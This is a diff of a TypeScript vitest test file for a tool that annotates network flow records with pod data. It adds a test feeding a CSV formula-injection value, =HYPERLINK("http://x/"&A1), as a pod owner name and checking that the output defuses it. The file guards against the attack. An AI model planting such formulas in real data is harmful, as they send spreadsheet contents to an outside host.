@@ -1,6 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import type { AnnotateOptions } from '../annotation.js';
-import { annotated, askedFor } from '../annotation.test.helpers.js';
+import { annotated, answerOf, askedFor } from '../annotation.test.helpers.js';
 
 const POD = (n: number) => `web-${n},shop,Deployment/web,node-3,pod,`;
 const EPOCH = Date.parse('2026-11-26T14:05:00Z') / 1_000;
@@ -245,4 +245,16 @@ it('a record that ends before it begins is asked for at its first time', async (
 it('a flow whose end cannot be read is not asked for at the time when it was logged', async () => {
   const flow = '"flow":{"start":"2026-11-26T14:05:00.5Z","end":"2026-11-26T14:04:00.5 CET"},';
   expect(await askedFor(`${EVE(flow)}\n`)).toBe('unreadable');
+});
+
+it('adds no formula to a table, whatever the owner of a pod is called', async () => {
+  const evil = answerOf('pod', {
+    namespace: 'shop',
+    pod: 'web-1',
+    workload_kind: '=HYPERLINK("http://x/"&A1)',
+  });
+  const { text: out } = await annotated([text('time,src', '2026-11-26 14:05:00,10.64.0.1')], {
+    ask: async (questions) => questions.map(() => ({ ...evil, workload: 'web' })),
+  });
+  expect(out).toContain(`,"'=HYPERLINK(""http://x/""&A1)/web",`);
 });
